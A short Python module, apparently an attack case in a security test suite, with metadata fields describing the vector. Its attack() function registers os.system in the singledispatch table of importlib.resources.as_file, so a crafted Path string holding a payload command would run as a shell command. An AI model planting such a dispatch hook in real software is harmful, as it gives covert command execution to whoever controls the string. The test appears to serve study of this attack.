"""A C function in the table of a singledispatch() of the library's."""
CATEGORY = "callable"
REACH = "run"
BEYOND = (
    "The table is a dictionary, and a bare C function has no author; whether "
    "it was the application that registered it is not known "
    "(callable_bare_dispatch).")

import importlib.resources
import os

from . import payload


class Path(str):
    pass


path = Path(payload.COMMAND)


def attack():
    importlib.resources.as_file.register(Path, os.system)
